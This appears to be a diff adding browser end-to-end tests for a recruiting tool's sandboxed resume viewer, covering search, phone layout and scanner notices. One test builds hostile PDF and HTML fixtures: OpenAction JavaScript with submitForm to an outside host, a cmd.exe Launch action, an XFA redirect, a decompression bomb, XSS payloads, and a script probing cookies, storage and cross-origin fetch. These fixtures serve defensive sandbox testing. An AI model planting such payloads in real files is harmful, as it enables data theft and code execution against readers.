@@ -1,0 +1,308 @@
+import { once } from "node:events";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
+import { deflateSync } from "node:zlib";
+import type { FrameLocator } from "playwright-core";
+import { expect, onTestFinished, test } from "vitest";
+import { RESUME } from "../tools/running/filled-forms.ts";
+import { type Desk, joinAsFirst, openPeople, startDesk, wrong } from "./at-the-desk.ts";
+
+/* A resume is read at the desk, in a frame that reaches nothing. */
+
+const somebody = openPeople();
+const PHONE = { width: 390, height: 844 };
+
+const MARCUS = `<style>@page { size: letter; margin: 1in } body { font: 12pt serif }</style>
+	<h1>Marcus Ellery</h1><p>Columbus, OHIO</p>
+	<p>Sells managed freight to a manufacturer. Freight and third-party logistics since 2017.</p>
+	<p style="break-before: page">Café résumé, freight, conversational Spanish</p>`;
+
+/** A desk that somebody sent a resume to, and one of the firm's people in front of it. */
+async function deskWithAResume(options = {}) {
+	const desk = await startDesk();
+	const page = await somebody(options);
+	await page.setContent(MARCUS);
+	const reference = await sendResume(desk, await page.pdf({ preferCSSPageSize: true }));
+	await joinAsFirst(page, desk);
+	return { desk, page, reference, path: `${desk.url}/s/${reference}`, paper: page.frameLocator("iframe") };
+}
+
+async function sendResume({ server }: Desk, file: Buffer): Promise<string> {
+	const form = new FormData();
+	for (const [name, value] of Object.entries(RESUME)) form.append(name, value);
+	form.append("resume", new File([new Uint8Array(file)], "Marcus Ellery.pdf", { type: "application/pdf" }));
+	const headers = { accept: "application/json" };
+	const response = await fetch(`${server.url}/forms/resume`, { method: "POST", headers, body: form });
+	expect(response.status).toBe(201);
+	return (await response.json()).reference;
+}
+
+/** Until the words of a page are in their place. */
+async function wordsOf(paper: FrameLocator, page = 0): Promise<string> {
+	const text = paper.locator(".page").nth(page).locator(".text");
+	await text.waitFor();
+	return (await text.textContent()) ?? "";
+}
+
+test("a resume is read beside its submission, and what was searched for is found in it", async () => {
+	const { page, path, paper } = await deskWithAResume();
+	await page.goto(`${path}?q=freight manufacturers cafe`);
+	await page.getByRole("link", { name: "Read the resume" }).click();
+	await page.getByText("Page 1 of 2").waitFor();
+	expect(await wordsOf(paper)).toContain("third-party logistics");
+	await page.getByText("cafe 1").waitFor(); // the last page's
+	expect(await page.getByText(/^(freight|manufacturers|cafe) \d$/).allTextContents()).toEqual([
+		"freight 3",
+		"manufacturers 1",
+		"cafe 1",
+	]);
+	expect(await wrong(page)).toEqual([]);
+
+	for (let pressed = 0; pressed < 5; pressed += 1) await page.keyboard.press("h");
+	await page.getByText("Hit 5 of 5").waitFor();
+	await page.getByText("Page 2 of 2").waitFor();
+	await paper.locator(".page").nth(1).locator(".current").waitFor();
+	expect(await page.getByRole("status").getByText(/^: /).textContent()).toContain("Café résumé, freight");
+
+	// Keys go on working where one has clicked into the page.
+	const before = await paper.locator(".page").first().boundingBox();
+	await paper.locator(".page").nth(1).click();
+	await page.keyboard.press("f");
+	await page.getByRole("button", { name: "Beside the rest" }).waitFor();
+	await expect
+		.poll(async () => (await paper.locator(".page").first().boundingBox())?.width)
+		.toBeGreaterThan((before?.width ?? 0) * 1.2);
+	await page.keyboard.press("Escape");
+	const link = page.getByRole("link", { name: "Read the resume" });
+	await expect.poll(() => link.evaluate((element) => element === document.activeElement)).toBe(true);
+	await page.getByText("You opened the resume").waitFor();
+	expect(await page.getByText("You opened the resume").count()).toBe(1);
+});
+
+test("on a phone it covers the screen, grows by a button, and the way back closes it; a Word file is read too", async () => {
+	const { page, path, paper } = await deskWithAResume({ viewport: PHONE, hasTouch: true });
+	await page.goto(path);
+	await page.getByRole("link", { name: "Read the resume" }).click();
+	await page.getByText("Page 1 of 2").waitFor();
+	const width = async () => (await paper.locator(".page").first().boundingBox())?.width ?? 0;
+	expect(await width()).toBeGreaterThan(360);
+	expect(await width()).toBeLessThanOrEqual(PHONE.width);
+	expect(await page.locator("iframe").boundingBox()).toMatchObject({ x: 0, width: PHONE.width });
+	await page.getByRole("button", { name: "Larger" }).click();
+	await expect.poll(width).toBeGreaterThan(PHONE.width);
+	await page.getByRole("button", { name: /^Fit/ }).click();
+	await expect.poll(width).toBeLessThanOrEqual(PHONE.width);
+	for (const size of [PHONE, { width: 320, height: 568 }]) {
+		await page.setViewportSize(size);
+		expect(await wrong(page)).toEqual([]);
+	}
+	await page.goBack();
+	await page.getByRole("heading", { name: "Jordan Reyes" }).waitFor();
+	expect(await page.locator("iframe").count()).toBe(0);
+
+	const html = `<h1>Marcus Ellery</h1><ul><li>Sells <strong>fre</strong>ight</li></ul>`;
+	await page.route("**/resume/pages", (route) => route.fulfill({ json: { type: "html", html } }));
+	await page.goto(`${path}?q=freight&read=page`);
+	await page.getByText("Word file").waitFor();
+	await page.getByRole("button", { name: "Next hit" }).click();
+	await page.getByText("Hit 1 of 1").waitFor();
+	expect(await paper.locator(".sheet").innerText()).toMatch(/Marcus Ellery\s+Sells freight/);
+	expect(await paper.locator(".current").count()).toBe(2); // one in two pieces
+});
+
+test("nothing of a hostile file runs or is fetched, and the frame reaches neither the desk nor the web", async () => {
+	const { desk, page, path, paper } = await deskWithAResume();
+	const { url: elsewhere, heard } = await listenElsewhere();
+	const policy = (await fetch(`${desk.url}/resume/page.html`)).headers.get("content-security-policy");
+	expect(policy).toMatch(
+		/^sandbox allow-scripts; default-src 'none'; script-src http:\/\/localhost:\d+\/resume\/assets\/ /,
+	);
+	expect(policy).not.toMatch(/connect-src|img-src|unsafe-inline|'unsafe-eval'|'self'/);
+	page.context().on("page", (opened) => heard.push(`a new window: ${opened.url()}`));
+	page.on("dialog", (dialog) => {
+		heard.push(`a dialog: ${dialog.message()}`);
+		void dialog.dismiss();
+	});
+	let bytes: Buffer = Buffer.alloc(0);
+	await page.route("**/resume", (route) => route.fulfill({ body: bytes, contentType: "application/pdf" }));
+
+	for (const [name, hostile, outcome] of hostileFiles(elsewhere)) {
+		bytes = hostile;
+		await page.goto(`${path}?read=page`);
+		await page.getByText(outcome).waitFor();
+		if (outcome !== DRAWN) {
+			expect([name, await page.getByRole("link", { name: "Download" }).count()]).toEqual([name, 2]);
+			continue;
+		}
+		await paper.locator("canvas").first().waitFor();
+		await paper.locator(".page").first().click(); // where a link would be
+		expect([name, await paper.locator("a, form, input, embed, object, iframe, script:not([src])").count()]).toEqual([
+			name,
+			0,
+		]);
+	}
+	const html = `<p onclick="alert(1)" style="color:red">Jordan</p><script>alert(1)</script><meta http-equiv="refresh" content="0;url=${elsewhere}">
+		<a href="${elsewhere}">site</a><img src="${elsewhere}x.png" onerror="alert(1)"><form action="${elsewhere}"><input name="x"><button>Go</button></form>`;
+	await page.route("**/resume/pages", (route) => route.fulfill({ json: { type: "html", html } }));
+	await page.goto(`${path}?read=page`);
+	await page.getByText("Word file").waitFor();
+	expect(await paper.locator("article").innerHTML()).toMatch(/^<p>Jordan<\/p>\s*site\s*Go(<div class="marks".*)?$/s);
+	await page.unroute("**/resume/pages");
+
+	await page.unroute("**/resume");
+	await page.goto(`${path}?read=page`);
+	await wordsOf(paper);
+	const reached = `async () => {
+		const tries = {
+			parent: () => parent.document.title,
+			storage: () => localStorage.length,
+			cookie: () => document.cookie,
+			api: () => fetch("${desk.url}/api/me", { credentials: "include" }),
+			web: () => fetch("${elsewhere}", { mode: "no-cors" }),
+			script: () => import("${elsewhere}x.js"),
+			evaluated: () => new Function("return 1")(),
+		};
+		const done = [];
+		for (const [name, attempt] of Object.entries(tries)) {
+			try { await attempt(); done.push(name); } catch {}
+		}
+		return done;
+	}`;
+	const frame = page.frames().find((one) => one.url().includes("/resume/page.html"));
+	expect(await frame?.evaluate(`(${reached})()`)).toEqual([]);
+	expect(await page.workers()[0]?.evaluate(`(${reached})()`)).toEqual([]);
+	expect(heard).toEqual([]);
+});
+
+test("what is not scanned is shown after a press; a lost file and a frame that says nothing are told", async () => {
+	const { page, path } = await deskWithAResume();
+	const sentence = "The virus scanner has not looked at this file yet.";
+	await page.route("**/resume/pages", (route) => route.fulfill({ json: { type: "sentence", sentence, anyway: true } }));
+	await page.goto(`${path}?read=page`);
+	await page.getByText(sentence).waitFor();
+	expect(await wrong(page)).toEqual([]);
+	await page.getByRole("button", { name: "Show it anyway" }).click();
+	await page.getByText("Page 1 of 2").waitFor();
+	await page.unroute("**/resume/pages");
+
+	await page.route("**/resume", (route) => route.fulfill({ status: 409, json: { error: "It is infected." } }));
+	await page.goto(`${path}?read=page`);
+	await page.getByText("It is infected.").waitFor();
+	await page.unroute("**/resume");
+	await page.getByRole("button", { name: "Try again" }).click();
+	await page.getByText("Page 1 of 2").waitFor();
+
+	await page.route("**/resume/page.html", (route) => route.fulfill({ body: "", contentType: "text/html" }));
+	await page.clock.install();
+	const handedIn = page.waitForResponse(/\/resume$/);
+	await page.goto(`${path}?read=page`);
+	await handedIn;
+	await page.locator("iframe").waitFor();
+	await expect
+		.poll(async () => {
+			await page.clock.fastForward(5_000);
+			return page.getByText(/takes too long to draw/).count();
+		})
+		.toBe(1);
+	const download = page.waitForEvent("download");
+	await page.getByRole("link", { name: "Download" }).first().click();
+	expect((await download).suggestedFilename()).toBe("Marcus Ellery.pdf");
+});
+
+const DRAWN = /^Page 1 of \d+$/;
+const BROKEN = /^This file is damaged/;
+const LOCKED = /^This file is locked/;
+const WHOLE_PAGE = "/Rect [0 0 612 792]";
+
+/** @param elsewhere where they lead */
+function hostileFiles(elsewhere: string): [name: string, content: Buffer, outcome: RegExp][] {
+	const acts = `/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('${elsewhere}'\\))`;
+	const annotation = (action: string) => `<< /Type /Annot /Subtype /Link ${WHOLE_PAGE} /A << ${action} >> >>`;
+	const picture = `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /F << /FS /URL /F (${elsewhere}x.png) >> /Length 0 >>`;
+	const template = `<template><subform><event activity="initialize"><script>xfa.host.gotoURL("${elsewhere}")</script></event></subform></template>`;
+	return [
+		["a script that starts with it", pdf({ catalog: `/OpenAction << ${acts} >> /AA << /WC << ${acts} >> >>` }), DRAWN],
+		[
+			"links and programs to start",
+			pdf({
+				page: `/Annots [6 0 R 7 0 R] /AA << /O << ${acts} >> >>`,
+				more: [annotation(`/S /URI /URI (${elsewhere})`), annotation("/S /Launch /F (cmd.exe)")],
+			}),
+			DRAWN,
+		],
+		[
+			"a picture from the web",
+			pdf({
+				resources: "/XObject << /Im 6 0 R >>",
+				content: "q 200 0 0 200 72 400 cm /Im Do Q",
+				more: [`${picture}\nstream\n\nendstream`],
+			}),
+			DRAWN,
+		],
+		[
+			"a form of XFA",
+			pdf({ catalog: "/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true", more: [stream(template)] }),
+			DRAWN,
+		],
+		["pages that hold themselves", pdf({ kids: "[2 0 R]" }), BROKEN],
+		["a page of 200 inches", pdf({ box: "[0 0 14400 14400]" }), DRAWN],
+		["60 MB in 60 KB", pdf({ packed: Buffer.alloc(60_000_000, " ") }), DRAWN],
+		["half a file", pdf({}).subarray(0, 200), BROKEN],
+		["no PDF at all", Buffer.from("<html><script>alert(1)</script>"), BROKEN],
+		["one that is locked", pdf({ encryption: true }), LOCKED],
+	];
+}
+
+/** A place on the web that hears whoever comes. */
+async function listenElsewhere(): Promise<{ url: string; heard: string[] }> {
+	const heard: string[] = [];
+	const server = createServer((request, response) => {
+		heard.push(`${request.method} ${request.url}`);
+		response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end();
+	}).listen(0, "127.0.0.1");
+	await once(server, "listening");
+	onTestFinished(() => void server.close());
+	return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, heard };
+}
+
+interface Made {
+	catalog?: string;
+	page?: string;
+	resources?: string;
+	kids?: string;
+	box?: string;
+	content?: string;
+	packed?: Buffer;
+	more?: string[];
+	encryption?: boolean;
+}
+
+function pdf(made: Made): Buffer {
+	const {
+		catalog = "",
+		page = "",
+		resources = "",
+		kids = "[3 0 R]",
+		box = "[0 0 612 792]",
+		content = "",
+		more = [],
+	} = made;
+	const words = `BT /F1 24 Tf 72 720 Td (Jordan Reyes) Tj ET ${content}`;
+	const packed = made.packed && deflateSync(made.packed).toString("latin1");
+	const objects = [
+		`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+		`<< /Type /Pages /Kids ${kids} /Count 1 >>`,
+		`<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
+		packed ? `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream` : stream(words),
+		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
+		...more,
+	];
+	// A key that no password opens.
+	const locks = `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${"41".repeat(32)}> /U <${"42".repeat(32)}> >>`;
+	const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join("");
+	return Buffer.from(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R ${made.encryption ? locks : ""} >>\n%%EOF\n`, "latin1");
+}
+
+function stream(content: string): string {
+	return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
+}
